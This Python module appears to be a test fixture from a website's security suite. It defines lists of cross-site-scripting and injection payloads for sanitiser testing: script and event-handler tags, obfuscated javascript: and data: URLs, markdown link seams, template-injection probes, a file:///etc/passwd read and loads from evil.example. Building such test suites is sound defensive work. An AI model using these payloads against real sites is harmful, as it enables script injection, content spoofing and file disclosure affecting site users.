"""Hostile texts: injections at the seams between grammars, each written for this site.

`VECTORS` are texts for bodies and fields. Where one of them runs, it calls `alert` or `x`.
"""

from __future__ import annotations

CODE = "alert(1)"
ELEMENTS = [
    f"<script>{CODE}</script>", f"<img src=q onerror={CODE}>", f"<svg onload={CODE}>", f"<svg/onload={CODE}//",
    f"<iframe srcdoc='<script>parent.{CODE}</script>'></iframe>", "<iframe src=https://evil.example/>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>*{position:fixed;inset:0}</style>", "<style>@import 'https://evil.example/a.css'</style>",
    f"<a href=javascript:{CODE}>点</a>", f"<form action=javascript:{CODE}><button autofocus>点</button></form>",
    f"<details open ontoggle={CODE}>", f"<body onload={CODE}>", f"<input autofocus onfocus={CODE}>", f"<video><source onerror={CODE}></video>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=q onerror={CODE}&gt;\">",
    f"<noscript><p title=\"</noscript><img src=q onerror={CODE}>\">", f"<xmp><p title=\"</xmp><img src=q onerror={CODE}>\">",
    f"<textarea><img title='</textarea><img src=q onerror={CODE}>'>", f"<title><img title='</title><img src=q onerror={CODE}>'>",
    f"<svg><style><img src=q onerror={CODE}></style></svg>", f"<svg><a xlink:href=javascript:{CODE}><text>点</text></a></svg>",
    f"<svg><animate onbegin={CODE} attributeName=x dur=1s>", f"<svg><use href='data:image/svg+xml,<svg onload={CODE}>'></svg>",
    f"<object data=javascript:{CODE}></object>", f"<embed src=javascript:{CODE}>", "<div style='position:fixed;inset:0;background:red'>盖住</div>",
    "<div id=da class=ex-header>名</div>", f"<button popovertarget=p>点</button><div popover id=p onbeforetoggle={CODE}>", f"<p contenteditable onfocus={CODE} tabindex=0>",
    "<img srcset='https://evil.example/a.png 1x'>", "<table background=https://evil.example/b.png><td>格", f"<marquee onstart={CODE}>走</marquee>",
    f"<sCrIpT\n>{CODE}</ScRiPt\n>", f"<scr<script>ipt>{CODE}</scr</script>ipt>", f"</p><script>{CODE}</script>", f"<!--><script>{CODE}</script>",
    f"<!-- --!><script>{CODE}</script> -->", f"<![CDATA[><script>{CODE}</script>]]>", f"<?xml ><img src=q onerror={CODE}>?>", f"<!DOCTYPE x><img src=q onerror={CODE}>",
    f"＜script＞{CODE}＜/script＞", f"&lt;script&gt;{CODE}&lt;/script&gt;", f"&#60;img src=q onerror={CODE}&#62;", f"\\<img src=q onerror={CODE}\\>",
    f"<\u0000script>{CODE}</script>", f"<img\u000csrc=q\u000conerror={CODE}>", f"<img\u2028src=q onerror={CODE}>", f"<\u200bscript>{CODE}</script>",
]  # fmt: skip

TARGETS = [
    f"javascript:{CODE}", f"JaVaScRiPt:{CODE}", f"java\nscript:{CODE}", f"java\tscript:{CODE}", f"java\u0002script:{CODE}", f"\u0001javascript:{CODE}",
    f"java\u00adscript:{CODE}", f"java\u200bscript:{CODE}", f"javascript&colon;{CODE}", f"java&#115;cript:{CODE}", f"&#106avascript:{CODE}", f"java&Tab;script:{CODE}",
    f"javascript%3A{CODE}", f"java\\script:{CODE}", f"javascript\\:{CODE}", f"vbscript:{CODE}", f"data:text/html,<script>{CODE}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg onload={CODE}>", f"blob:https://evil.example/{CODE}", "file:///etc/passwd", "intent://scan/#Intent;scheme=zxing;end", "weixin://dl/chat", "alipays://platformapi",
    "tel:<b>", "mailto:/style=position:fixed;inset:0;background:red//", f"mailto:/autofocus/contenteditable/onfocus={CODE}//", f"mailto:a@b.example\"onclick={CODE}", "//evil.example/a", "/\\evil.example/a",
    "\\\\evil.example\\a", "https:evil.example", "https:\\\\evil.example", f"https://evil.example/\"onmouseover={CODE} x=\"", f"https://evil.example/'onclick='{CODE}", f"https://evil.example/><img src=q onerror={CODE}>",
    f"https://evil.example/`onclick={CODE}`", "https://e@evil.example/", "https://evil.example/\u202egnp.a", f"#\"onclick={CODE}", f"../10002/\"onfocus={CODE} autofocus x=\"", f"../10002/?q=<script>{CODE}</script>",
    f"view-source:javascript:{CODE}", f"feed:javascript:{CODE}", f"jar:javascript:{CODE}!/", f"x:{CODE}", f"ｊavascript:{CODE}", f"javas\u0301cript:{CODE}",
]  # fmt: skip

LINKS = [
    "[点]({})", "[看[这]里]({})", "![图]({})", "![看[这]里]({})", "[点](<{}>)", "<{}>", "[点]: {}\n[点]", "[点][甲]\n\n[甲]: {}", "[![图]({})](https://ok.example/)", "[点]( {} \"标题\" )",
    "> - [点]({})", "| 甲 | 乙 |\n|---|---|\n| [点]({}) | `|` |", "1、[点]({})\n2、**[点]({})**", "<!-- <{}> -->", "**<{}**>", "`[`点]({})", "[点`](`{})", "[*点]({})*",
]  # fmt: skip

SEAMS = [
    f"<!-- <mailto:/autofocus/contenteditable/onfocus={CODE}//> -->", f"```\n<script>{CODE}</script>", f"```\n```\n<script>{CODE}</script>\n```", f"~~~\n<img src=q onerror={CODE}>\n~~~", f"`<img src=q` onerror={CODE}>",
    f"``<img src=q onerror={CODE}>`", f"`` ` <img src=q onerror={CODE}> ` ``", f"<a title=\"`\" href=javascript:{CODE}>`", f"[点](https://ok.example/ \"<img src=q onerror={CODE}>\")", f"[点](https://ok.example/ \"&quot;onclick={CODE}\")",
    f"[点](https://ok.example/ '\"onmouseover={CODE} ')", f"[<img src=q onerror={CODE}>](https://ok.example/)", f"[**点](https://ok.example/)** onclick={CODE}", f"**[点](https://ok.example/\"** onclick={CODE})", f"![点](q\" onerror=\"{CODE})",
    f"# 题 {{: onclick={CODE} }}", f"题 {{#da onclick=\"{CODE}\"}}", f"**粗**{{: style=\"position:fixed\" onfocus={CODE} tabindex=0 }}", f"[点](https://ok.example/){{: onclick={CODE} }}", f"| 甲 {{: onclick={CODE} }} |\n|---|\n| 乙 |",
    f"|<script>|{CODE}|</script>|\n|-|-|-|\n|甲|乙|丙|", f"<script>\t{CODE}\n甲\t</script>", f"1、<script>\n2、{CODE}\n3、</script>", f"- <!--\n- --><script>{CODE}</script>", f"> <!--\n\n<script>{CODE}</script>\n> -->", f"①<svg\n②onload={CODE}>",
    f"[^1]\n\n[^1]: <img src=q onerror={CODE}>", f"*[HTML]: <img src=q onerror={CODE}>\n\nHTML", f"!!! note \"<img src=q onerror={CODE}>\"\n    甲", f"??? <script>{CODE}</script>", f"::: {{onclick={CODE}}}\n:::", f"=== \"<svg onload={CODE}>\"",
    "[TOC]", "{{ config }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "{# 注 #}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{constructor.constructor('alert(1)')()}}", "---\ntemplate: main.html\n---", "---\n\"}]}\n---", "\"}],\"x\":\"",
    "'}\n---\n甲: 乙", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "</script><script>alert(1)</script>", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "--></noscript><script>alert(1)</script>", "]]><script>alert(1)</script>", "\" autofocus onfocus=alert(1) x=\"", "' autofocus onfocus='alert(1)", "\"><img src=q onerror=alert(1)>", "'><img src=q onerror=alert(1)>", "`><img src=q onerror=alert(1)>",
    "\"style=\"position:fixed;inset:0", ";position:fixed;inset:0;x:", "url(https://evil.example/a.png)", "red;background:url(https://evil.example/b.png)", "\u202e\u2066<script>alert(1)</script>\u2069", "甲\u0000<script>alert(1)</script>", "甲\u001b]8;;https://evil.example/\u0007点\u001b]8;;\u0007",
    "\ufeff<script>alert(1)</script>", "﹤script﹥alert(1)", "‹img src=q onerror=alert(1)›", "e" + "\u0301" * 80, "\U000e0001\U000e003c\U000e0073", "\ud7ff\ue000", "👨\u200d👩\u200d👧<b>", "葛\U000e0100<i>", "\u2028<script>\u2029alert(1)</script>", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "[a](" * 40 + f"javascript:{CODE}" + ")" * 40, "**" * 99 + f"<script>{CODE}</script>", ">" * 99 + f"<script>{CODE}</script>", "[" * 60 + f"](javascript:{CODE})", "<" * 99 + f"img src=q onerror={CODE}>", "`" * 99 + f"<script>{CODE}</script>", "- " * 60 + f"<img src=q onerror={CODE}>",
]  # fmt: skip

VECTORS = tuple(
    dict.fromkeys(
        [
            *ELEMENTS,
            *SEAMS,
            *(LINKS[number % len(LINKS)].replace("{}", target) for number, target in enumerate(TARGETS)),
            *(LINKS[(number * 5 + 2) % len(LINKS)].replace("{}", target) for number, target in enumerate(TARGETS)),
            *(LINKS[(number * 7 + 4) % len(LINKS)].replace("{}", target) for number, target in enumerate(TARGETS)),
            *(link.replace("{}", TARGETS[number % 7]) for number, link in enumerate(LINKS)),
            *(f"**{element}**" for element in ELEMENTS[:12]),
            *(f"| 甲 | {element.replace('|', '')} |\n|---|---|\n| 乙 | 丙 |" for element in ELEMENTS[12:24]),
            *(f"1、{element}\n2、甲" for element in ELEMENTS[24:36]),
            *(f"<!-- {element}" for element in ELEMENTS[:12]),
        ]
    )
)
